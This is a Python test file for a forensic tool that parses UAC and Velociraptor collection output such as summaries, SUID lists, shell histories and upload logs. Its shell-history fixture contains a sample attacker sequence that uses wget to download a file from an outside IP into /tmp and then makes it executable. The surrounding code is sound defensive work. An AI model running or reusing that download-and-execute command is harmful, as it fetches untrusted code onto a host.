"""What collectors write about their own work is read, not taken for evidence that nobody understands."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest

from responder.model.absent import Absent
from responder.model.event import EventRecord
from responder.model.file import FileRecord
from responder.model.host import FactRecord
from responder.parsers import path_lists, shell_history, uac_summary
from responder.parsers.base import Head
from responder.parsers.registry import identify

_SAMPLES = os.environ.get("RESPONDER_SAMPLES", "")

SUMMARY = """Created by UAC (Unix-like Artifacts Collector) 3.3.0

[Case Information]
Case Number:
Examiner: A. Nakamura

[System Information]
Operating System: linux
Hostname: web01

[Output Information]
Format: zip
Password: hunter2

[Computed Hashes]
SHA1 checksum: c4228434bd5e3f8251fb7b58a83ab4eb0e80cd0c
"""


def _known(data: bytes, path: str, name: str):
    parser = identify(Head(data[: Head.SIZE], len(data), path))
    assert parser is not None, path
    assert name == parser.NAME
    return parser


def _whole(done):
    assert done.account.expected == done.account.shown + sum(done.explained.values())
    return done


def test_summary_of_uac_names_the_host_and_hides_the_password(run):
    done = _whole(run(_known(SUMMARY.encode(), "uac.log", "uac-summary"), SUMMARY.encode()))
    facts = {(f.category, f.name): f.value for f in done.of(FactRecord)}
    assert facts["identity", "hostname"] == "web01"
    assert facts["collection", "SHA1 checksum"].startswith("c4228434")
    assert facts["collection", "Case Number"] is Absent.NOT_APPLICABLE
    assert "hunter2" not in repr(done)
    assert "clear text" in done.warnings[0]
    assert uac_summary.STATES_HOST


def test_lists_of_odd_files_say_what_is_odd(run):
    data = b"/usr/bin/sudo\n/usr/bin/my tool\nline\n"
    parser = _known(data, "x.tar.gz!system/suid.txt", "path-list")
    done = _whole(run(parser, data, path="x.tar.gz!system/suid.txt"))
    assert [(f.path, f.mode) for f in done.of(FileRecord)] == [
        ("/usr/bin/sudo", "set-user-ID"), ("/usr/bin/my tool", "set-user-ID"),
    ]  # fmt: skip
    assert done.explained == {"line not understood": 1}
    flags = b"----i---------e------- /etc/cron.d/.sysupd\n"
    done = run(path_lists, flags, path="system/immutable_files.txt")
    assert [(f.path, f.mode) for f in done.of(FileRecord)] == [("/etc/cron.d/.sysupd", "immutable")]
    assert identify(Head(data, len(data), "notes/mine.txt")) is None


def test_a_history_without_times_is_known_by_its_name_alone(run):
    data = b"id\nwget http://203.0.113.77/upd -O /tmp/upd\nchmod +x /tmp/upd\n"
    parser = _known(data, "x!home/deploy/.bash_history", "shell-history")
    done = _whole(run(parser, data, path="home/deploy/.bash_history"))
    events = done.of(EventRecord)
    assert [e.process_command_line for e in events] == data.decode().splitlines()
    assert {e.time for e in events} == {Absent.NOT_COLLECTED}
    assert "no times" in done.warnings[0]
    assert shell_history.sniff(Head(data, len(data), "notes.txt")) == 0
    script = b"#!/bin/sh\nid\n"
    assert shell_history.sniff(Head(script, len(script), "home/a/run.sh")) == 0


UPLOADS = [
    {"vfs_path": "\\\\.\\C:\\$Extend\\$UsnJrnl:$J.idx", "file_size": 158, "uploaded_size": 158, "Type": "idx"},
    {
        "vfs_path": "\\\\.\\C:\\$Extend\\$UsnJrnl:$J",
        "file_size": 13_771_763_704,
        "uploaded_size": 39_612_408,
        "Type": "",
    },
    {"vfs_path": "C:\\Users\\a\\ntuser.dat", "file_size": 196_608, "uploaded_size": 102_400, "Type": ""},
    {"vfs_path": "C:\\Windows\\a.log", "file_size": 5, "uploaded_size": 5, "Type": ""},
]
LOG = [
    {"_ts": 1669082757, "client_time": 1669082757, "level": "DEFAULT", "message": "Selecting _J\n"},
    {"_ts": 1669082758, "client_time": 1669082758, "level": "ERROR", "message": "cannot open C:\\pagefile.sys\n"},
]


def _lines(rows: list[dict]) -> bytes:
    return "".join(json.dumps(row) + "\n" for row in rows).encode()


def test_velociraptor_tells_which_uploads_were_cut_off(run):
    data = _lines(UPLOADS)
    done = _whole(run(_known(data, "c.zip!uploads.json", "velociraptor-uploads"), data))
    assert [(f.path, f.size) for f in done.of(FileRecord)] == [
        ("C:\\$Extend\\$UsnJrnl:$J", 13_771_763_704), ("C:\\Users\\a\\ntuser.dat", 196_608), ("C:\\Windows\\a.log", 5),
    ]  # fmt: skip
    assert done.warnings == [
        "C:\\$Extend\\$UsnJrnl:$J was collected without its holes: 39,612,408 of 13,771,763,704 bytes",
        "only 102,400 of 196,608 bytes of C:\\Users\\a\\ntuser.dat were collected on the host",
    ]


def test_velociraptor_log_context_and_bookkeeping(run):
    data = _lines(LOG)
    done = _whole(run(_known(data, "c.zip!log.json", "velociraptor-log"), data))
    assert [(f.category, f.name, f.value) for f in done.of(FactRecord)] == [
        ("collection", "DEFAULT", "Selecting _J"), ("collection", "ERROR", "cannot open C:\\pagefile.sys"),
    ]  # fmt: skip
    assert done.warnings == ["on the host: cannot open C:\\pagefile.sys"]
    context = json.dumps(
        {"session_id": "F.1", "request": {"artifacts": ["Windows.KapeFiles.Targets"]}, "create_time": 1669082757032004800,
         "total_uploaded_files": 3, "state": 3}, indent=1
    ).encode()  # fmt: skip
    done = _whole(run(_known(context, "c.zip!collection_context.json", "velociraptor-context"), context))
    facts = {f.name: f.value for f in done.of(FactRecord)}
    assert facts == {
        "session": "F.1", "artifact": "Windows.KapeFiles.Targets", "total uploaded files": "3", "state": "error",
    }  # fmt: skip
    assert done.warnings == ["the collection ended with an error on the host"]
    for path, body in (
        ("c.zip!log.json.index", bytes(range(16))),
        ("c.zip!requests.json", b"{}\n"),
        ("c.zip!uploads/x/$J.idx", b'{"ranges":[{"length":9301852160}]}'),
    ):
        done = run(_known(body, path, "velociraptor-index"), body)
        assert (done.account.expected, done.account.shown) == (0, 0)
    assert identify(Head(b"{}\n", 3, "c.zip!other.json")) is None


@pytest.mark.samples
@pytest.mark.skipif(not _SAMPLES, reason="RESPONDER_SAMPLES does not name the folder of evidence samples")
def test_nothing_of_the_collection_itself_is_left_unknown_in_the_velociraptor_sample():
    unknown = []
    with zipfile.ZipFile(next(Path(_SAMPLES, "bundles").glob("velociraptor*.zip"))) as archive:
        for info in archive.infolist():
            data = archive.read(info)
            if data and identify(Head(data[: Head.SIZE], len(data), f"c.zip!{info.filename}")) is None:
                unknown.append(info.filename.rpartition("/")[2])
    assert unknown == ["$UsnJrnl%3A$J", "$UsnJrnl%3A$Max"]
